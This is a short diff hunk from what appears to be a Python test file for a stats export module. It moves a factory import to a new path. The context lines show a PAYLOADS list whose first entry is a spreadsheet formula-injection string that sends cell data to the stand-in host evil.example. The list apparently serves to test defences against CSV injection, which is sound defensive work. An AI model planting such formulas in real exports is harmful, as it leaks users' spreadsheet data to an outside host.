@@ -9,7 +9,7 @@ from sqlmodel import Session
 
 from app.config import get_settings
 from app.stats import aggregates, export
-from tests.factories import make_complaint
+from tests.support.factories import make_complaint
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
